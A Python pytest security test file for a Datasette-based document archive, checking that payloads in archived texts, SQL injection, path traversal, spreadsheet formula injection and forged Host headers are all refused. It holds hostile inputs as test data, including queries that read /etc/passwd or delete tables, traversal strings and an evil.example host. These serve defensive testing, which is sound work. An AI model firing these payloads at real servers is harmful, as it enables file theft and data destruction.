"""A published archive attacked: texts that are markup, SQL, paths, hosts, long queries."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
import socket
import time
from collections import Counter, deque
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import replace
from itertools import cycle, islice
from pathlib import Path
from typing import Any
from urllib.parse import quote, urljoin, urlsplit

import httpx
import pytest
from lxml import html as lxml_html
from playwright.sync_api import Browser

from nianbao.archive import Archive, verify
from nianbao.archive.browse import Serving
from nianbao.archive.browse.formats import FORMULA_BEGINNINGS
from nianbao.archive.browse.server import make_application, open_datasette
from tests.browse.browser_pages import watching
from tests.browse.conftest import FIRST, XIXIA, crawl, serving
from tests.browse.poisoned_archive import poison
from tests.conftest import Crawl, make_reading

MOST_PAGES = 2  # of one kind
OUR_PAGES = {
    "",
    "agency",
    "archived",
    "changes",
    "coverage",
    "diff",
    "document",
    "findings",
    "region",
    "report",
    "search",
    "sites",
    "unassigned",
}
SHOWN_TABLES = ("archive/.", "archive/reports.", "archive/findings.", "archive/visits.")
FORMATS = (".json", ".csv", ".atom", ".bib", ".ris", ".csl")
SERVERS_FILES = (b"root:", b"def ", b"import ", b"SQLite format 3")


@pytest.fixture(scope="module")
def poisoned_path(archive_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("poisoned") / "some.db"
    shutil.copy(archive_path, path)
    assert len(poison(path)) > 80
    return path


@pytest.fixture(scope="module")
def poisoned(poisoned_path: Path) -> Iterator[str]:
    """The address of a published archive with a payload in every text."""
    with serving(poisoned_path, publish=True, attacked=True) as address:
        yield address


@pytest.fixture(scope="module")
def answers(poisoned: str) -> dict[str, httpx.Response]:
    """Every kind of page that links lead to, from the front page and the list of tables."""
    todo = deque(["/", "/archive", "/search?q=正文", "/unassigned", "/no/page"])
    pages: dict[str, httpx.Response] = {}
    kinds: Counter[str] = Counter()
    with httpx.Client(base_url=poisoned, trust_env=False, timeout=30) as client:
        while todo:
            address = todo.popleft()
            kind = name_kind(address)
            if address in pages or kinds[kind] >= MOST_PAGES:
                continue
            kinds[kind] += 1
            pages[address] = client.get(address)
            if "html" in pages[address].headers["content-type"]:
                todo.extend(list_links(pages[address], poisoned))
    return pages


def name_kind(address: str) -> str:
    """Return what pages of one kind have in common: the first of their path, and their format."""
    path = urlsplit(address).path
    suffix = path.rpartition(".")[2] if path.endswith(FORMATS) else ""
    parts = path.split("/")
    is_table = len(parts) > 2 and parts[1] == "archive"
    return f"{parts[1]}/{parts[2] if is_table else ''}.{suffix}"


def list_links(page: httpx.Response, base: str) -> list[str]:
    root = lxml_html.fromstring(page.text)
    links = []
    for link in root.xpath("//a/@href | //iframe/@src"):
        url = urljoin(str(page.url), link)
        if url.startswith(base):
            links.append(url.removeprefix(base).partition("#")[0] or "/")
    return links


def test_no_text_of_the_archive_becomes_markup(
    answers: dict[str, httpx.Response],
) -> None:
    kinds = {name_kind(address) for address in answers}
    assert len(kinds) > 60, kinds
    assert OUR_PAGES - {kind.partition("/")[0] for kind in kinds} == set()
    for address, answer in answers.items():
        assert answer.status_code < 500, (address, answer.text[:2000])
        if "html" in answer.headers["content-type"]:
            require_plain_markup(address, answer.text)


def require_plain_markup(address: str, text: str) -> None:
    """Raise AssertionError where a payload is an element, an attribute or an address that runs."""
    root = lxml_html.fromstring(text)
    for element in root.iter(lxml_html.etree.Element):
        if element.tag in ("script", "style"):
            assert "hostile" not in (element.text or ""), address
        for name, value in element.items():
            assert not (name.startswith("on") and "hostile" in value), (address, value)
            is_link = name in ("href", "src", "action", "formaction", "data")
            scheme = value.strip().lower().partition(":")[0]
            assert not (is_link and scheme in ("javascript", "data")), (address, value)


def test_every_answer_has_what_protects_its_reader(
    answers: dict[str, httpx.Response],
) -> None:
    for address, answer in answers.items():
        headers = answer.headers
        policy = headers["content-security-policy"]
        assert "frame-ancestors" in policy, address
        assert "default-src 'none'" in policy or "object-src 'none'" in policy, address
        assert headers["x-content-type-options"] == "nosniff", address
        assert headers["referrer-policy"] == "no-referrer", address
        assert "access-control-allow-origin" not in headers, address


def spoil_cell(text: str) -> str:
    return f'=HYPERLINK("http://x/?"&A1)\n,-{text}\t@x'


def test_no_cell_of_csv_is_a_formula(archive_path: Path, tmp_path: Path) -> None:
    path = tmp_path / "formulas.db"
    shutil.copy(archive_path, path)
    poison(path, spoil_cell)
    (listing,) = ask(path, "/archive.json")
    names = [quote(table["name"]) for table in listing.json()["tables"]]
    assert len(names) > 20
    for name in names:
        data, answer = ask(
            path,
            f"/archive/{name}.json?_size=max&_shape=arrays",
            f"/archive/{name}.csv?_size=max",
        )
        lines = list(csv.reader(io.StringIO(answer.text, newline="")))[1:]
        for row, line in zip(data.json()["rows"], lines, strict=True):
            require_no_formula(row, line)


def require_no_formula(row: list[Any], line: list[str]) -> None:
    """Raise AssertionError where a cell of a line is not the value, with a mark if need be."""
    for value, cell in zip(row, line, strict=True):
        if isinstance(value, str) and value.startswith(FORMULA_BEGINNINGS):
            assert cell == f"'{value}"
        elif "_blob_column=" not in cell:  # the address of bytes
            assert cell == ("" if value is None else str(value))


def ask(
    path: Path, *addresses: str, host: str = "localhost", **how: Any
) -> list[httpx.Response]:
    """Ask a published archive that is served in this process."""

    async def ask_all() -> list[httpx.Response]:
        how_served = Serving(**{"publish": True, **how})
        datasette = open_datasette(path, how_served)
        transport = httpx.ASGITransport(
            make_application(datasette, how_served, "127.0.0.1")
        )
        async with httpx.AsyncClient(
            transport=transport, base_url=f"http://{host}", timeout=60
        ) as client:
            answers = [await client.get(address) for address in addresses]
        datasette.get_database("archive").close()
        return answers

    # the tests in a browser have an event loop in this thread
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(lambda: asyncio.run(ask_all())).result()


def test_a_payload_runs_in_no_browser(
    poisoned: str, answers: dict[str, httpx.Response], chromium: Browser
) -> None:
    shown: set[str] = set()
    """One page of each kind, but of the tables of Datasette only some."""
    with watching(chromium, poisoned) as (page, _):
        for address, answer in answers.items():
            kind = name_kind(address)
            is_left_out = kind.startswith("archive/") and kind not in SHOWN_TABLES
            is_page = "html" in answer.headers["content-type"]
            if is_left_out or not is_page or kind in shown:
                continue
            shown.add(kind)
            page.goto(address)
            assert page.evaluate("window.hostile") is None, address


QUERIES = (
    "ATTACH '/tmp/x.db' AS x",
    "PRAGMA writable_schema = 1",
    "SELECT load_extension('/tmp/x.so')",
    "SELECT readfile('/etc/passwd')",
    "SELECT writefile('/tmp/x', 'x')",
    "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT max(x) FROM n",
    "SELECT zeroblob(1000000000)",
    "DELETE FROM reports",
    "SELECT 1; DELETE FROM reports",
    "VACUUM INTO '/tmp/x.db'",
)
PLACES = (
    "/archive?sql={}",
    "/archive.json?sql={}",
    "/archive.csv?sql={}",
    "/archive/reports.json?_where={}",
    "/archive/reports.json?_where=1&_where=({})",
    "/archive/-/query?sql={}",
    "/archive/-/query.json?sql={}",
    "/_memory?sql={}",
    "/_internal?sql={}",
)
HARMLESS_PLACES = (  # where a text is only a text
    "/archive/reports.json?_sort={}",
    "/archive/reports.json?title={}",
    "/archive/reports.json?title__contains={}",
    "/archive/reports.json?{}=1",
    "/archive/reports.json?_col={}",
    "/archive/reports.json?_facet={}",
    "/archive/reports.json?_next={}",
    "/archive/reports.json?_through={}",
    "/search.json?q={}",
    "/search.json?q=正&year={}",
    "/findings/{}.json",
    "/document.json?url={}",
    "/region/{}.json",
    "/agency/{}/{}.json",
)


@pytest.mark.parametrize("place", PLACES)
def test_no_sql_of_strangers_is_run(published: str, place: str) -> None:
    with httpx.Client(base_url=published, trust_env=False, timeout=30) as client:
        for query in QUERIES:
            answer = client.get(place.format(quote(query)))
            assert answer.status_code in (400, 403, 404), (query, answer.text[:500])


def test_sql_in_the_place_of_a_text_is_a_text(
    published: str, archive_path: Path
) -> None:
    before = archive_path.read_bytes()
    with httpx.Client(base_url=published, trust_env=False, timeout=30) as client:
        for place in HARMLESS_PLACES:
            for query in (*QUERIES, "x' OR 1 = 1 --", 'x" OR 1 = 1 --', "]); --"):
                address = place.format(*[quote(query, safe="")] * 2)
                answer = client.get(address)
                is_datasettes = "_through=" in place
                allowed = (200, 400, 403, 404) + (500,) * is_datasettes
                assert answer.status_code in allowed, address
                assert "syntax error" not in answer.text, address
                assert "site-packages" not in answer.text, address
    assert archive_path.read_bytes() == before


@pytest.mark.parametrize("query", ["_sort=x", "_sort_desc=x", "_sort=id&_sort_desc=id"])
@pytest.mark.parametrize("kind", ["", ".json"])
def test_a_wrong_order_is_the_askers_fault(
    published: str, query: str, kind: str
) -> None:
    with httpx.Client(base_url=published, trust_env=False, timeout=30) as client:
        answer = client.get(f"/archive/reports{kind}?{query}")
    assert answer.status_code == 400
    assert "sort" in answer.text


def test_no_pattern_takes_long(tmp_path: Path) -> None:
    """A pattern of many parts on a long text that nearly matches."""
    path = tmp_path / "long.db"
    page = replace(FIRST[0], text="a" * 200_000 + "b")
    with Archive.create(path) as archive:
        crawl(archive, 1, XIXIA, (page,))
    table = "/archive/version_texts.json?text__"
    began = time.monotonic()
    ask(path, f"{table}like={'%25a' * 1000}", f"{table}glob={'*a' * 2000}")
    assert time.monotonic() - began < 10


TRAVERSALS = (
    "../" * 12,
    "..%2f" * 12,
    "%2e%2e/" * 12,
    "%2e%2e%2f" * 12,
    "%252e%252e%252f" * 12,
    "..%5c" * 12,
    "..\\" * 12,
    "....//" * 12,
    "%c0%ae%c0%ae/" * 12,
    "~2E~2E~2F" * 12,
    "/",
    "%2f",
    "file:///",
)
FOLDERS = (
    "/",
    "/-/static/",
    "/-/static-plugins/",
    "/-/static-plugins/nianbao/",
    "/nianbao/",
    "/archive/",
    "/archived/",
    "/region/",
)


def ask_as_it_is(address: str, path: str, host: str = "") -> tuple[int, bytes]:
    """Send an address as no client would; return status and answer."""
    parts = urlsplit(address)
    with socket.create_connection(
        (parts.hostname or "", parts.port or 0), 30
    ) as connection:
        head = f"GET {path} HTTP/1.1\r\nHost: {host or parts.netloc}\r\nConnection: close\r\n\r\n"
        connection.sendall(head.encode("latin-1"))
        answer = b""
        while piece := connection.recv(1 << 16):
            answer += piece
    status = int(answer.split(b" ", 2)[1])
    return status, answer


@pytest.mark.parametrize("folder", FOLDERS)
def test_no_path_leads_to_other_files(published: str, folder: str) -> None:
    for traversal in TRAVERSALS:
        for target in ("etc/passwd", "some.db", "pages.py", "%00/etc/passwd"):
            path = f"{folder}{traversal}{target}"
            status, answer = ask_as_it_is(published, path)
            assert status in (200, 301, 302, 400, 403, 404), path
            body = answer.partition(b"\r\n\r\n")[2]
            for text in SERVERS_FILES:
                assert text not in body, path


@pytest.mark.parametrize(
    "host",
    [
        "evil.example/x",
        'evil.example"><script>',
        "a@b",
        "evil.example:port",
        "evil example",
        "x" * 300,
        "[::1",
        "a\r\nHost: b",
    ],
)
def test_a_host_that_is_none_is_refused(published: str, host: str) -> None:
    status, answer = ask_as_it_is(published, "/", host)
    assert status == 400
    assert b"<script>" not in answer


def test_only_the_named_hosts_are_answered_to(archive_path: Path) -> None:
    names = ("reports.example.org",)
    for host in ("reports.example.org", "REPORTS.example.org.:443", "localhost"):
        (answer,) = ask(archive_path, "/coverage", host=host, names=names)
        assert answer.status_code == 200, host
    (refusal,) = ask(archive_path, "/coverage", host="evil.example", names=names)
    assert (refusal.status_code, "evil.example" in refusal.text) == (421, False)
    assert "--server-name" in refusal.text


def test_no_site_that_is_open_in_a_browser_asks_sql_of_its_own(
    archive_path: Path,
) -> None:
    """A name that somebody makes lead to this machine is no name of it."""
    for host, status in (
        ("127.0.0.1:8001", 200),
        ("[::1]", 200),
        ("evil.example", 421),
    ):
        address = "/archive.json?sql=select+1"
        (answer,) = ask(archive_path, address, host=host, publish=False)
        assert answer.status_code == status, host


def test_long_addresses_and_other_methods_are_refused(published: str) -> None:
    with httpx.Client(base_url=published, trust_env=False, timeout=30) as client:
        assert client.get("/search", params={"q": "政" * 3000}).status_code == 414
        assert client.get("/" + "x" * 9000).status_code == 414
        assert client.get("/search", params={"q": "政府 " * 300}).status_code == 200
        for method in ("POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE"):
            answer = client.request(method, "/archive", content=b"sql=select+1")
            assert answer.status_code == 405, method
    with suppress(ConnectionError):  # it may close before all is sent
        status, _ = ask_as_it_is(published, "/?" + "x" * 10_000_000)
        assert status in (400, 414, 431)


READERS = 100
READERS_PAGES = ("/", "/coverage", "/changes", "/archive/reports", "/search?q=正文")


def test_a_hundred_readers_beside_a_crawl(archive_path: Path, tmp_path: Path) -> None:
    """Every reader is answered, and the crawl goes on and is whole."""
    path = tmp_path / "live.db"
    shutil.copy(archive_path, path)
    with serving(path, publish=True) as address, ThreadPoolExecutor(1) as pool:
        reading = pool.submit(lambda: asyncio.run(read_at_once(address)))
        runs = 0
        with Archive.create(path) as archive:
            live = Crawl(archive, make_reading)
            while not reading.done():
                runs += 1
                live.run({"http://live.localhost/1.html": f"{runs}"}, site="live")
        assert set(reading.result()) == {200}
    assert runs >= 2
    with Archive(path) as archive:
        assert verify.check_archive(archive).ok


async def read_at_once(address: str) -> list[int]:
    """Have all readers ask for a page each; return the statuses."""
    limits = httpx.Limits(max_connections=READERS)
    async with httpx.AsyncClient(
        base_url=address, trust_env=False, timeout=120, limits=limits
    ) as client:
        pages = islice(cycle(READERS_PAGES), READERS)
        requests = [client.get(page) for page in pages]
        answers = await asyncio.gather(*requests)
    return [answer.status_code for answer in answers]
